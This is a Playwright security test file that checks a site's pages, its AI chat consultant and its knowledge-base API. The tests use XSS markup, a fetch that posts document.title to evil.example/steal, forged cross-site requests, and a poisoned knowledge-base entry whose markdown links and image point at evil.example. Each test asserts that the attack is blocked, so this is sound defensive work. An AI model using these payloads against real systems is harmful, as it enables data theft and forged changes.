/** What `docs/threat-model.md` promises of the pages, tried in a browser on the running site. */

import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "@playwright/test";
import { brand } from "../shared/brand.ts";
import { expect, test } from "./fixtures.ts";
import { test as operatorTest } from "./operator-site.ts";

const MARKUP = '<img src=x onerror="window.ran = 1"><script>window.ran = 1</script>';

/** True where anything that was brought in ran, or became more than text. */
const ran = (page: Page) => page.evaluate(() => "ran" in window || document.querySelector('img[src="x"]') !== null);

/**
 * A page of another site with this body, from a server of its own: to a browser
 * `localhost` is not `127.0.0.1`. It is not watched as the site's own pages are.
 */
async function pageOfAnotherSite(context: BrowserContext, body: string): Promise<Page> {
  const server = createServer((_, response) => response.setHeader("content-type", "text/html").end(body));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const page = await context.newPage();
  page.once("close", () => {
    server.closeAllConnections();
    server.close();
  });
  await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
  return page;
}

test.describe("a script that got into a page", () => {
  test.use({
    expectedErrors: [
      /content security policy|violates the following|evil\.example|(?:404 \(Not Found\)|missing file:) http\S*\/x$/i,
    ],
  });

  test("does not run, draws nothing and sends nothing anywhere", async ({ page }) => {
    const sent: string[] = [];
    page.on("requestfinished", (request) => sent.push(request.url()));
    await page.goto("/results");
    await page.evaluate((markup) => {
      const broken: string[] = [];
      addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
      Object.assign(window, { broken });
      const place = document.querySelector("main") as HTMLElement;
      const add = (name: string, attributes: object) =>
        place.append(Object.assign(document.createElement(name), attributes));
      place.insertAdjacentHTML("beforeend", `${markup}<div style="color:red"></div><base href="//evil.example/">`);
      place.insertAdjacentHTML(
        "beforeend",
        '<form action="https://evil.example/"><button id="bait">Go on</button></form>',
      );
      add("script", { textContent: "window.ran = 1" });
      add("script", { src: "https://evil.example/x.js" });
      add("iframe", { srcdoc: "<script>parent.ran = 1</script>" });
      add("img", { src: "https://evil.example/pixel.png" });
      fetch("https://evil.example/steal", { method: "POST", body: document.title }).catch(() => undefined);
      document.getElementById("bait")?.click();
    }, MARKUP);
    const stopped = [
      "base-uri",
      "connect-src",
      "form-action",
      "img-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
    ];
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { broken: string[] }).broken))
      .toEqual(expect.arrayContaining(stopped));
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
    expect(sent.filter((url) => url.includes("evil"))).toEqual([]);
  });
});

test("what an address carries stays text", async ({ page }) => {
  const markup = encodeURIComponent(MARKUP);
  await page.goto(`/?spend=5000000&industry=finance&goals=${markup}&challenges=${markup}#roi`);
  await expect(page.getByLabel("Goals")).toHaveValue(MARKUP);
  await expect(page.getByRole("region", { name: "Your projection" })).toBeVisible();
  expect(await ran(page)).toBe(false);
  await page.goto(`/?spend=${markup}&industry=${markup}&margin=${markup}#roi`);
  await expect(page.getByText("This link holds no projection that can be shown.")).toBeVisible();
  expect(await ran(page)).toBe(false);
  for (const path of [`/?q=${markup}#${markup}`, '/insights#"]%00*:not(', "/results#__proto__"]) {
    await page.goto(path);
    await expect(page.locator("h1")).toBeVisible();
    expect(await ran(page)).toBe(false);
  }
});

test("what the tab's storage holds stays text", async ({ page }) => {
  const bait = `${MARKUP} [click](javascript:window.ran=1) [go](https://evil.example) ![see](https://evil.example/p.png)`;
  await page.addInitScript((content) => {
    sessionStorage.setItem("chat-open", '"/disclaimer"');
    const messages = [
      { role: "user", content },
      { role: "assistant", content },
    ];
    sessionStorage.setItem("chat-conversation", JSON.stringify({ messages }));
  }, bait);
  await page.goto("/disclaimer");
  const log = page.getByRole("dialog", { name: brand.consultant }).getByRole("log");
  await expect(log).toContainText("<img src=x");
  await expect(log.locator("img, script, iframe, a[href^='javascript'], a[href*='evil']")).toHaveCount(0);
  expect(await ran(page)).toBe(false);
});

operatorTest("a poisoned entry reaches a visitor as text, and leads nowhere", async ({ page, request, chat }) => {
  const bait = "Use [the form](https://evil.example/?q=secret) and ![pixel](https://evil.example/p.png).";
  const content = `The ferry desk in Setubal opens at seven in the morning. ${bait}`;
  const entry = { pageTitle: "Ferry desk <b>new</b>", pageUrl: "https://evil.example/page", content };
  expect((await request.post("/rest/v1/knowledge_base", { data: entry })).status()).toBe(201);
  await page.goto("/disclaimer");
  await chat.open();
  await chat.ask("When does the ferry desk in Setubal open?");
  const { log } = chat;
  await expect(log).toContainText("opens at seven in the morning");
  await chat.answered();
  await expect(log).toContainText("Ferry desk <b>new</b>");
  await expect(log.locator("img, script, b, a[href*='evil']")).toHaveCount(0);
});

test("a page of another site cannot show a page of ours in a frame", async ({ context, baseURL }) => {
  const trap = await pageOfAnotherSite(context, `<iframe src="${baseURL}/"></iframe>`);
  const framed = trap.frames().find((frame) => frame.parentFrame() !== null);
  await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/);
  expect(await framed?.locator("main, header, footer").count()).toBe(0);
});

operatorTest(
  "a page of another site cannot make an operator's browser change or read anything",
  async ({ context, request, baseURL }) => {
    const count = async () => (await request.get("/rest/v1/knowledge_base?limit=1")).headers()["content-range"];
    await expect.poll(count).toMatch(/\/[1-9]\d+$/);
    const before = await count();
    const form =
      '<form method="post" enctype="text/plain"><input name=\'{"pageTitle":"x","content":"y","a":"\' value=\'"}\'></form>';
    const trap = await pageOfAnotherSite(context, form);
    const outcomes = await trap.evaluate(async (site) => {
      const json = { "content-type": "application/json" };
      const data = JSON.stringify({ pageTitle: "Forged", content: "Forged." });
      const table = `${site}/rest/v1/knowledge_base`;
      const calls: [string, RequestInit][] = [
        [`${table}?select=*`, {}],
        [table, { method: "POST", headers: json, body: data }],
        [`${table}?id=eq.x`, { method: "DELETE" }],
        [`${site}/functions/v1/ingest-content`, { method: "POST" }],
        [`${site}/functions/v1/export-entries?format=csv`, { credentials: "include" }],
      ];
      return Promise.all(
        calls.map(([url, init]) =>
          fetch(url, init).then(
            ({ status }) => status,
            () => "unreadable",
          ),
        ),
      );
    }, baseURL ?? "");
    expect(outcomes).toEqual(Array(5).fill("unreadable"));
    for (const path of ["/functions/v1/ingest-content", "/rest/v1/knowledge_base"]) {
      const page = await pageOfAnotherSite(context, form);
      const answer = page.waitForResponse(`${baseURL}${path}`);
      await page.locator("form").evaluate((element: HTMLFormElement, action) => {
        element.action = action;
        element.submit();
      }, `${baseURL}${path}`);
      expect((await answer).status()).toBe(403);
    }
    expect(await count()).toBe(before);
  },
);

test("a visit sets no cookie, and leaves nothing behind once the tab is closed", async ({ page, context, chat }) => {
  for (const path of ["/", "/privacy", "/insights/ai-tourism-roi"]) await page.goto(path);
  await chat.open();
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([]);
});
